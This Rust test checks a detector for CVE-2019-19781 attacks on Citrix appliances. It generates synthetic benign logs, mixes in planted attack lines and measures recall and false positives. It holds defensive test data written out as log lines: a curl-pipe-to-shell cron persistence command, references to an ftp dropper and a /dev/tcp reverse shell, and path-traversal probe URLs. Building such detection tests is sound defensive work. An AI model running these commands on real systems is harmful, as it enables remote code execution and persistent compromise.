//! The detection regression corpus: a generated month (January 2020) of four appliances — VPN users,
//! ADM polling, internet scanners, administrators, the appliance's own cron and shell activity, WAF
//! noise — with the attack steps and look-alikes of `tests/fixtures/detection/planted.txt` mixed in,
//! replayed by the real binary. Every planted step must raise an alert of its stage carrying it as
//! evidence; no look-alike and no benign record may be evidence of any alert. Recall and false
//! positives are printed per stage.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::Path;
use std::process::Command;

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde_json::Value;

const APPLIANCES: [&str; 4] = ["gw-lon-01", "gw-fra-01", "gw-nyc-01", "adc-int-01"];

/// A small deterministic generator (xorshift64*): the same corpus on every run and machine.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

fn access(at: DateTime<Utc>) -> String {
    at.format("%d/%b/%Y:%H:%M:%S +0000").to_string()
}

fn bsd(at: DateTime<Utc>) -> String {
    at.format("%b %e %H:%M:%S").to_string()
}

fn native(at: DateTime<Utc>) -> String {
    at.format("%m/%d/%Y:%H:%M:%S GMT").to_string()
}

/// One appliance's benign month, per file name.
fn benign(host: &str, seed: u64) -> BTreeMap<&'static str, Vec<String>> {
    let mut rng = Rng(seed);
    let mut files: BTreeMap<&'static str, Vec<String>> = BTreeMap::new();
    let start = Utc.with_ymd_and_hms(2020, 1, 1, 0, 0, 0).unwrap();
    let users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
    let pages = [
        "/vpn/index.html",
        "/vpn/images/logo.png",
        "/vpns/portal/homepage.html",
        "/vpns/services.html",
        "/logon/LogonPoint/index.html",
        "/vpn/js/gateway_login_view.js",
    ];
    let scans = ["/", "/robots.txt", "/wp-login.php", "/.env", "/cgi-bin/luci", "/vpn/../etc/passwd", "/owa/"];
    let agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (Macintosh)", "CitrixReceiver/19.12"];
    let waf_only = host == "gw-fra-01";
    for day in 0..31 {
        let midnight = start + Duration::days(day);
        // VPN sessions: a login, some portal pages, a logout.
        for _ in 0..(20 + rng.below(20)) {
            let at = midnight + Duration::seconds(6 * 3600 + rng.below(14 * 3600) as i64);
            let user = rng.pick(&users);
            let client = format!("81.2.69.{}", 1 + rng.below(250));
            let session = 100_000 + rng.below(900_000);
            let seq = rng.below(1_000_000_000);
            files.entry("ns.log").or_default().push(format!(
                "<134> {} {host} 0-PPE-0 : default SSLVPN LOGIN {seq} 0 : Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip \"Mapped Ip\" - Vserver 10.0.1.1:443 - Browser_type \"{}\" - SSLVPN_client_type Agent - Group(s) \"VPN-USERS\"",
                native(at),
                rng.pick(&agents)
            ));
            if !waf_only {
                let internal = format!("10.20.{}.{}", rng.below(10), 1 + rng.below(250));
                for k in 0..(3 + rng.below(5)) {
                    let t = at + Duration::seconds(5 + 20 * k as i64);
                    files.entry("httpaccess.log").or_default().push(format!(
                        "{internal} - - [{}] \"GET {} HTTP/1.1\" 200 {} \"-\" \"{}\"",
                        access(t),
                        rng.pick(&pages),
                        200 + rng.below(20_000),
                        rng.pick(&agents)
                    ));
                }
                // Now and then a user saves a bookmark (newbm.pl, authenticated, no traversal).
                if rng.below(15) == 0 {
                    files.entry("httpaccess.log").or_default().push(format!(
                        "{internal} - - [{}] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" \"{}\"",
                        access(at + Duration::seconds(200)),
                        rng.pick(&agents)
                    ));
                }
            }
            let end = at + Duration::seconds(600 + rng.below(7200) as i64);
            files.entry("ns.log").or_default().push(format!(
                "<134> {} {host} 0-PPE-0 : default SSLVPN LOGOUT {} 0 : Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip \"Mapped Ip\" - Vserver 10.0.1.1:443 - Start_time \"{}\" - End_time \"{}\" - Duration 00:10:00 - Total_bytes_send 1000 - Total_bytes_recv 2000 - LogoutMethod \"Explicit\" - Group(s) \"VPN-USERS\"",
                native(end),
                seq + 1,
                native(at),
                native(end)
            ));
        }
        // A mistyped password or two (far below the brute-force threshold).
        for _ in 0..rng.below(3) {
            let at = midnight + Duration::seconds(rng.below(86_400) as i64);
            files.entry("ns.log").or_default().push(format!(
                "<132> {} {host} 0-PPE-0 : default AAA LOGIN_FAILED {} 0 : User {} - Client_ip 81.2.69.{} - Failure_reason \"Username/Password mismatch\"",
                native(at),
                rng.below(1_000_000_000),
                rng.pick(&users),
                1 + rng.below(250)
            ));
        }
        // ADM polling and administration from the management network.
        for hour in (0..24).step_by(2) {
            let at = midnight + Duration::hours(hour) + Duration::seconds(rng.below(60) as i64);
            let seq = rng.below(1_000_000_000);
            files.entry("ns.log").or_default().push(format!(
                "<134> {} {host} 0-PPE-0 : default API CMD_EXECUTED {seq} 0 : User nsroot - Remote_ip 10.0.0.50 - Command \"stat system\" - Status \"Success\"",
                native(at)
            ));
            if !waf_only {
                files.entry("httpaccess.log").or_default().push(format!(
                    "10.0.0.50 - - [{}] \"GET /nitro/v1/stat/system HTTP/1.1\" 200 1432 \"-\" \"ADM/13.0\"",
                    access(at)
                ));
            }
        }
        // Internet scanners: noise, not this CVE.
        for _ in 0..(5 + rng.below(10)) {
            let at = midnight + Duration::seconds(rng.below(86_400) as i64);
            let scanner = format!("198.18.{}.{}", rng.below(250), 1 + rng.below(250));
            let path = rng.pick(&scans);
            if waf_only {
                files.entry("ns.log").or_default().push(format!(
                    "{} <local0.info> {host} CEF:0|Citrix|NetScaler|NS12.1|APPFW|APPFW_STARTURL|6|src={scanner} spt={} method=GET request=https://vpn.example.de{path} msg=Disallow Illegal URL. cn1={} cn2={} cs1=pr_vpn cs2=PPE0 cs3=s cs4=ALERT cs5=2020 act=blocked",
                    bsd(at),
                    1024 + rng.below(60_000),
                    rng.below(10_000),
                    rng.below(10_000)
                ));
            } else {
                files.entry("httpaccess.log").or_default().push(format!(
                    "{scanner} - - [{}] \"GET {path} HTTP/1.1\" 404 231 \"-\" \"Mozilla/5.0 zgrab/0.x\"",
                    access(at)
                ));
            }
        }
        // The appliance's own cron jobs and the profiler loop in bash.log.
        for slot in 0..48 {
            let at = midnight + Duration::minutes(30 * slot) + Duration::seconds(5);
            let pid = 10_000 + rng.below(50_000);
            files
                .entry("cron")
                .or_default()
                .push(format!("{} <cron.info> {host} /usr/sbin/cron[{pid}]: (root) CMD (   nsfsyncd -p)", bsd(at)));
        }
        for _ in 0..6 {
            let at = midnight + Duration::seconds(rng.below(86_400) as i64);
            for command in ["kill -0 $pid >/dev/null 2>&1", "[ $? -ne 0 ]", "true"] {
                files.entry("bash.log").or_default().push(format!(
                    "{} <local7.notice> {host} bash[1173]: root on (null) shell_command=\"{command}\"",
                    bsd(at)
                ));
            }
        }
    }
    files
}

#[derive(Debug)]
struct Planted {
    host: String,
    file: String,
    expect: String,
    line: String,
}

fn planted() -> Vec<Planted> {
    let text =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/detection/planted.txt"))
            .unwrap();
    text.lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| {
            let mut parts = l.splitn(4, " | ");
            let mut next = || parts.next().unwrap().trim().to_owned();
            let (host, file, expect) = (next(), next(), next());
            let line = parts.next().unwrap().replace("\\n", "\n");
            Planted { host, file, expect, line }
        })
        .collect()
}

/// The same cron persistence line every minute for an hour, as the January 2020 campaigns left it.
const CRON_REPEATED: &str = "(nobody) CMD (curl http://198.51.100.33/ci.sh | sh > /dev/null 2>&1)";

fn write_corpus(dir: &Path, planted: &[Planted]) -> usize {
    let mut per_file: BTreeMap<(String, String), Vec<String>> = BTreeMap::new();
    for (i, host) in APPLIANCES.iter().enumerate() {
        for (file, lines) in benign(host, 0x9e37_79b9_7f4a_7c15 ^ (i as u64 + 1)) {
            per_file.entry((host.to_string(), file.to_owned())).or_default().extend(lines);
        }
    }
    let hour = Utc.with_ymd_and_hms(2020, 1, 20, 23, 0, 0).unwrap();
    for minute in 0..60 {
        per_file.entry(("gw-nyc-01".into(), "cron".into())).or_default().push(format!(
            "{} <cron.info> gw-nyc-01 /usr/sbin/cron[{}]: {CRON_REPEATED}",
            bsd(hour + Duration::minutes(minute)),
            20_000 + minute
        ));
    }
    for p in planted {
        per_file.entry((p.host.clone(), p.file.clone())).or_default().push(p.line.clone());
    }
    let mut total = 0;
    for ((host, file), lines) in per_file {
        let sub = dir.join("logs").join(host);
        std::fs::create_dir_all(&sub).unwrap();
        total += lines.len();
        std::fs::write(sub.join(file), lines.join("\n") + "\n").unwrap();
    }
    total
}

fn evidence(alert: &Value) -> Vec<String> {
    alert["gatewatch"]["evidence"]
        .as_array()
        .map(|e| e.iter().filter_map(|e| e["original"].as_str().map(str::to_owned)).collect())
        .unwrap_or_default()
}

#[test]
fn every_planted_step_alerts_at_its_stage_and_no_look_alike_does() {
    let dir = tempfile::tempdir().unwrap();
    let planted = planted();
    let lines = write_corpus(dir.path(), &planted);
    let out = Command::new(env!("CARGO_BIN_EXE_gatewatch"))
        .current_dir(dir.path())
        .env_clear()
        .env("GATEWATCH__DETECT__RULES_DIRS", Path::new(env!("CARGO_MANIFEST_DIR")).join("rules"))
        .args(["replay", "--from", "2020-01-01T00:00:00Z", "--to", "2020-02-01T00:00:00Z"])
        .args(["--input", "logs/*/*", "--alerts-out", "alerts.ndjson", "--report", "report.json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    let alerts: Vec<Value> = std::fs::read_to_string(dir.path().join("alerts.ndjson"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    println!("corpus: {lines} lines from {} appliances, {} alerts", APPLIANCES.len(), alerts.len());

    // Each alert once, in its final state.
    let ids: Vec<&str> = alerts.iter().map(|a| a["event"]["id"].as_str().unwrap()).collect();
    let unique: BTreeSet<&str> = ids.iter().copied().collect();
    assert_eq!(ids.len(), unique.len(), "an event.id appears more than once in the alerts file");

    // Which alerts (stage) carry each line as evidence.
    let mut carried: HashMap<String, Vec<(String, &Value)>> = HashMap::new();
    for alert in &alerts {
        let stage = alert["gatewatch"]["stage"].as_str().unwrap().to_owned();
        for line in evidence(alert) {
            carried.entry(line).or_default().push((stage.clone(), alert));
        }
    }
    let planted_lines: BTreeSet<&str> = planted.iter().map(|p| p.line.as_str()).collect();
    let mut expected: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut missed = Vec::new();
    let mut look_alike_hits = Vec::new();
    for p in &planted {
        let stages = carried.get(&p.line).map(Vec::as_slice).unwrap_or_default();
        match p.expect.as_str() {
            "repeat" => {}
            "none" => {
                if !stages.is_empty() {
                    look_alike_hits.push(format!("{} ({:?})", p.line, stages.iter().map(|s| &s.0).collect::<Vec<_>>()));
                }
            }
            want => {
                for stage in want.split('+') {
                    let entry = expected.entry(stage.to_owned()).or_default();
                    entry.0 += 1;
                    if stages.iter().any(|(s, _)| s == stage) {
                        entry.1 += 1;
                    } else {
                        missed.push(format!("{stage}: {}", p.line));
                    }
                }
            }
        }
    }
    // False positives: alerts none of whose evidence was planted (the cron scenario's line is planted).
    let mut false_positives: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for alert in &alerts {
        let ev = evidence(alert);
        if !ev.iter().any(|l| planted_lines.contains(l.as_str()) || l.contains(CRON_REPEATED)) {
            false_positives
                .entry(alert["gatewatch"]["stage"].as_str().unwrap().to_owned())
                .or_default()
                .push(format!("{} {:?}", alert["rule"]["id"], ev));
        }
    }
    println!("{:<20} {:>8} {:>8} {:>15}", "stage", "planted", "alerted", "false positives");
    let stages: BTreeSet<&String> = expected.keys().chain(false_positives.keys()).collect();
    for stage in stages {
        let (want, got) = expected.get(stage).copied().unwrap_or_default();
        let fp = false_positives.get(stage).map_or(0, Vec::len);
        println!("{stage:<20} {want:>8} {got:>8} {fp:>15}   recall {:.0}%", 100.0 * got as f64 / want.max(1) as f64);
    }
    assert!(missed.is_empty(), "planted steps without an alert of their stage:\n{}", missed.join("\n"));
    assert!(look_alike_hits.is_empty(), "look-alikes that alerted:\n{}", look_alike_hits.join("\n"));
    assert!(false_positives.is_empty(), "alerts on benign traffic: {false_positives:#?}");

    // The repeated cron line is one alert that counts every repeat.
    let cron: Vec<&Value> = alerts.iter().filter(|a| evidence(a).iter().any(|l| l.contains(CRON_REPEATED))).collect();
    assert_eq!(cron.len(), 1, "the cron line repeated for an hour: {cron:#?}");
    assert_eq!(cron[0]["gatewatch"]["count"], 60);
    assert_eq!(cron[0]["gatewatch"]["stage"], "post-exploitation");

    // Two different steps within a minute (ftp dropper, then a reverse shell) are two alerts.
    let dropper = planted.iter().find(|p| p.line.contains("ftp -o /tmp/bsd")).unwrap();
    let shell = planted.iter().find(|p| p.line.contains("/dev/tcp/198.51.100.9")).unwrap();
    let a = &carried[&dropper.line];
    let b = &carried[&shell.line];
    assert!(a.iter().all(|(_, x)| b.iter().all(|(_, y)| x["event"]["id"] != y["event"]["id"])));

    // One request in the WAF and the access log: one probe alert, counted once.
    let waf = planted.iter().find(|p| p.line.contains("src=198.51.100.77")).unwrap();
    let probes: Vec<&Value> =
        alerts.iter().filter(|a| a["gatewatch"]["stage"] == "probe" && a["source"]["ip"] == "198.51.100.77").collect();
    assert_eq!(probes.len(), 1);
    assert_eq!(probes[0]["gatewatch"]["count"], 1, "{:#}", probes[0]);
    assert_eq!(evidence(probes[0]), vec![waf.line.clone()]);
}

#[test]
fn a_waf_record_of_the_probe_on_standard_input_raises_the_probe_alert() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let line = "Jan 11 10:00:00 <local0.info> 81.2.69.144 CEF:0|Citrix|NetScaler|NS13.0|APPFW|APPFW_STARTURL|6|src=203.0.113.9 spt=47606 method=GET request=https://host/vpn/../vpns/cfg/smb.conf msg=Disallow Illegal URL. cn1=1340 cn2=653 cs1=pr_ffc cs2=PPE1 cs3=x cs4=ALERT cs5=2020 act=blocked\n";
    let mut child = Command::new(env!("CARGO_BIN_EXE_gatewatch"))
        .current_dir(dir.path())
        .env_clear()
        .env("GATEWATCH__DETECT__RULES_DIRS", Path::new(env!("CARGO_MANIFEST_DIR")).join("rules"))
        .args(["replay", "--from", "2020-01-01", "--to", "2020-02-01", "--input", "-", "--alerts-out", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(line.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let alerts: Vec<Value> =
        String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0]["rule"]["id"], "gw-citrix-cve-2019-19781-probe");
    assert_eq!(alerts[0]["source"]["ip"], "203.0.113.9");
    assert_eq!(alerts[0]["url"]["path"], "/vpn/../vpns/cfg/smb.conf");
}
